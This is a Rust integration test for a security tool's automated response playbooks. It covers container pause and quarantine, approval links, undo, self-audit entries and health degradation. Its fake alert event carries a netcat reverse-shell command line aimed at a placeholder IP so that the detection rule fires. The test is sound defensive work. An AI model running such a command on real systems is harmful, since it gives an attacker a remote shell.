//! Playbooks run by the server, with an in-process agent on the command queue (no Docker):
//! live alerts → evidence then pause through the queue; an `approve` action waits, its link's
//! page approves nothing, its form does once; undo sends the remembered networks back; scopes;
//! failures become a health problem. The real engine: `crates/cli/tests/respond.rs`.

use std::sync::{Arc, Mutex};
use std::time::{Duration, Instant};

use axum::body::Body;
use axum::http::{header, Request, StatusCode};
use crowsnest_model::command::{AgentCommand, CommandResult, ContainerOp};
use serde_json::{json, Value};

use super::tests::{harness_with, Harness};
use crate::auth::Scope;

async fn send(
    h: &Harness,
    token: Option<&str>,
    method: &str,
    uri: &str,
    body: Option<(&str, String)>,
) -> (StatusCode, Value) {
    let mut request = Request::builder().method(method).uri(uri);
    if let Some(token) = token {
        request = request.header(header::AUTHORIZATION, format!("Bearer {token}"));
    }
    let body = match body {
        Some((kind, text)) => {
            request = request.header(header::CONTENT_TYPE, kind);
            Body::from(text)
        }
        None => Body::empty(),
    };
    let (status, _, body) = h.call(request.body(body).expect("request")).await;
    (status, body)
}

fn exec_event(node: &str, container: &str) -> String {
    json!({
        "@timestamp": chrono::Utc::now().to_rfc3339(),
        "event": {"kind": "event", "module": "docker", "dataset": "docker.events",
                  "category": ["process"], "type": ["start"], "action": "exec_start"},
        "host": {"name": node},
        "container": {"id": format!("{container}0123456789abcdef"), "name": container,
                      "image": {"name": "shop"}},
        "process": {"command_line": "sh -c nc 203.0.113.5 4444 -e /bin/sh"},
    })
    .to_string()
}

/// The agent of node `n1`, in process: answers every command, and an evidence command with
/// an inspect of one network (`backend`, alias `api`).
fn fake_agent(h: &Harness) -> Arc<Mutex<Vec<AgentCommand>>> {
    let seen = Arc::new(Mutex::new(Vec::new()));
    let (queue, log) = (h.running.state.commands.clone(), seen.clone());
    tokio::spawn(async move {
        loop {
            for command in queue.poll("n1", Duration::from_millis(500)).await {
                let mut result = CommandResult::refused(&command, "n1", "");
                result.ok = true;
                result.error = None;
                if command.evidence {
                    result.inspect = Some(json!({
                        "Id": "web0123456789abcdef", "HostConfig": {"NetworkMode": "backend"},
                        "NetworkSettings": {"Networks": {"backend": {"Aliases": ["api"],
                            "IPAMConfig": {"IPv4Address": "10.9.0.5"}}}}}));
                }
                log.lock().expect("lock").push(command);
                let _ = queue.complete(result);
            }
        }
    });
    seen
}

async fn wait_for(h: &Harness, token: &str, check: impl Fn(&[Value]) -> bool) -> Vec<Value> {
    let deadline = Instant::now() + Duration::from_secs(20);
    loop {
        let (status, body) = send(h, Some(token), "GET", "/api/v1/respond/actions", None).await;
        assert_eq!(status, StatusCode::OK, "{body}");
        let actions = body["actions"].as_array().cloned().unwrap_or_default();
        if check(&actions) {
            return actions;
        }
        assert!(Instant::now() < deadline, "{actions:#?}");
        tokio::time::sleep(Duration::from_millis(50)).await;
    }
}

fn find<'a>(actions: &'a [Value], container: &str, kind: &str) -> Option<&'a Value> {
    actions.iter().find(|a| {
        a["action"]["target"]["container_name"] == container && a["action"]["action"] == kind
    })
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn live_alerts_run_playbooks_through_the_agent_queue_with_approvals_undo_and_health() {
    let h = harness_with(|config| {
        config.respond = toml::from_str(
            r#"
agent_timeout_secs = 1
public_url = "https://crowsnest.example.org"
[guards]
breaker_max_auto = 10
[[playbooks]]
name = "shell"
rules = ["*reverse shell*"]
actions = [{ action = "pause", mode = "auto" }, { action = "quarantine", mode = "approve" }]
"#,
        )
        .expect("respond config");
        // Approvals and undos are written to the self-audit stream.
        config.audit.enabled = true;
        config.integrity.verify_interval_secs = 0;
    })
    .await;
    let admin = h.token.clone();
    let read = h
        .running
        .state
        .tokens
        .create("viewer", [Scope::Read].into_iter().collect())
        .expect("read token");
    let seen = fake_agent(&h);
    let (status, body) = send(
        &h,
        Some(&admin),
        "POST",
        "/api/v1/ingest/ndjson",
        Some(("application/x-ndjson", exec_event("n1", "web"))),
    )
    .await;
    assert_eq!(status, StatusCode::OK, "{body}");

    // Evidence first, then the pause: two commands through the queue, automatically.
    let actions = wait_for(&h, &read, |a| {
        find(a, "web", "pause").is_some_and(|p| p["state"] == "executed")
    })
    .await;
    let ops: Vec<ContainerOp> = seen.lock().expect("lock").iter().map(|c| c.op).collect();
    assert_eq!(ops, [ContainerOp::Evidence, ContainerOp::Pause]);
    assert!(seen.lock().expect("lock")[0].evidence);
    let pause = find(&actions, "web", "pause").expect("pause");
    assert_eq!(pause["memory"]["networks"]["backend"]["Aliases"][0], "api");
    let quarantine = find(&actions, "web", "quarantine").expect("quarantine");
    assert_eq!(quarantine["state"], "pending");
    let id = quarantine["action"]["id"].as_str().expect("id").to_string();

    // Only an admin sees a link; the link's page approves nothing.
    let (_, shown) = send(
        &h,
        Some(&read),
        "GET",
        &format!("/api/v1/respond/actions/{id}"),
        None,
    )
    .await;
    assert!(shown.get("approval_link").is_none(), "{shown}");
    let (_, shown) = send(
        &h,
        Some(&admin),
        "GET",
        &format!("/api/v1/respond/actions/{id}"),
        None,
    )
    .await;
    let link = shown["approval_link"].as_str().expect("link");
    let path = link
        .strip_prefix("https://crowsnest.example.org")
        .expect("public url");
    let token = path.split("token=").nth(1).expect("token").to_string();
    let (status, page) = send(&h, None, "GET", path, None).await;
    assert_eq!(status, StatusCode::OK);
    assert!(
        page.as_str().is_some_and(|p| p.contains("method=\"post\"")),
        "{page}"
    );
    let (_, shown) = send(
        &h,
        Some(&read),
        "GET",
        &format!("/api/v1/respond/actions/{id}"),
        None,
    )
    .await;
    assert_eq!(shown["state"], "pending");
    // A forged token and an approval by id without admin are refused.
    let forged = format!("{}x", &token[..token.len() - 1]);
    let body = |t: &str| Some(("application/json", json!({"token": t}).to_string()));
    let (status, _) = send(&h, None, "POST", "/api/v1/respond/approve", body(&forged)).await;
    assert_eq!(status, StatusCode::FORBIDDEN);
    let by_id = Some(("application/json", json!({"id": id}).to_string()));
    let (status, _) = send(&h, Some(&read), "POST", "/api/v1/respond/approve", by_id).await;
    assert_eq!(status, StatusCode::FORBIDDEN);
    // The form approves (no bearer token: the link is the credential), once.
    let form = Some((
        "application/x-www-form-urlencoded",
        format!("token={token}"),
    ));
    let (status, page) = send(&h, None, "POST", "/api/v1/respond/approve", form.clone()).await;
    assert_eq!(status, StatusCode::OK);
    assert!(
        page.as_str().is_some_and(|p| p.contains("executed")),
        "{page}"
    );
    let (status, _) = send(&h, None, "POST", "/api/v1/respond/approve", body(&token)).await;
    assert_eq!(status, StatusCode::FORBIDDEN);
    assert_eq!(
        seen.lock().expect("lock").last().map(|c| c.op),
        Some(ContainerOp::Quarantine)
    );

    // Undo: admin only; the release carries the remembered attachment.
    let undo = format!("/api/v1/respond/actions/{id}/undo");
    let (status, _) = send(&h, Some(&read), "POST", &undo, None).await;
    assert_eq!(status, StatusCode::FORBIDDEN);
    let (status, body) = send(&h, Some(&admin), "POST", &undo, None).await;
    assert_eq!(status, StatusCode::OK, "{body}");
    assert_eq!(body["action"]["state"], "undone");
    let release = seen.lock().expect("lock").last().cloned().expect("release");
    assert_eq!(release.op, ContainerOp::Release);
    assert_eq!(release.networks[0].network, "backend");
    assert_eq!(release.networks[0].aliases, ["api"]);
    assert_eq!(
        release.networks[0].ipv4_address.as_deref(),
        Some("10.9.0.5")
    );
    let (_, health) = send(&h, Some(&read), "GET", "/api/v1/health", None).await;
    assert_eq!(health["status"], "ok", "{health}");
    // The approval (by link: refused once forged, then done, then refused as used) and the
    // undo are in the self-audit stream.
    let mut audited = Vec::new();
    for _ in 0..200 {
        h.settle().await;
        let found = h
            .search("event.dataset:crowsnest.audit AND event.action:response.action")
            .await;
        audited = found["hits"].as_array().cloned().unwrap_or_default();
        if audited.len() >= 4 {
            break;
        }
        tokio::time::sleep(Duration::from_millis(50)).await;
    }
    let target = |t: &str, outcome: &str| {
        audited
            .iter()
            .filter(|e| e["crowsnest"]["audit"]["target"] == t && e["event"]["outcome"] == outcome)
            .count()
    };
    assert_eq!(target(&format!("undo {id}"), "success"), 1, "{audited:#?}");
    // A link's decision names the action its token names (never the token itself).
    let by_link = |outcome: &str| {
        audited
            .iter()
            .filter(|e| {
                let t = e["crowsnest"]["audit"]["target"].as_str().unwrap_or("");
                t.starts_with("approve ")
                    && t.ends_with(" by link")
                    && !t.contains("v1.")
                    && e["event"]["outcome"] == outcome
            })
            .count()
    };
    assert_eq!(by_link("success"), 1, "{audited:#?}");
    assert_eq!(by_link("failure"), 2, "{audited:#?}");

    // No agent for node n2: each action fails after `agent_timeout_secs`; three in a row
    // are a health problem.
    let events: Vec<String> = (0..3)
        .map(|i| exec_event("n2", &format!("db{i}")))
        .collect();
    let (status, _) = send(
        &h,
        Some(&admin),
        "POST",
        "/api/v1/ingest/ndjson",
        Some(("application/x-ndjson", events.join("\n"))),
    )
    .await;
    assert_eq!(status, StatusCode::OK);
    let actions = wait_for(&h, &read, |a| {
        (0..3).all(|i| find(a, &format!("db{i}"), "pause").is_some_and(|p| p["state"] == "failed"))
    })
    .await;
    assert!(actions.len() >= 8);
    let (_, health) = send(&h, Some(&read), "GET", "/api/v1/health", None).await;
    assert_eq!(health["status"], "degraded", "{health}");
    assert!(
        health.to_string().contains("no agent of node `n2`"),
        "{health}"
    );
}
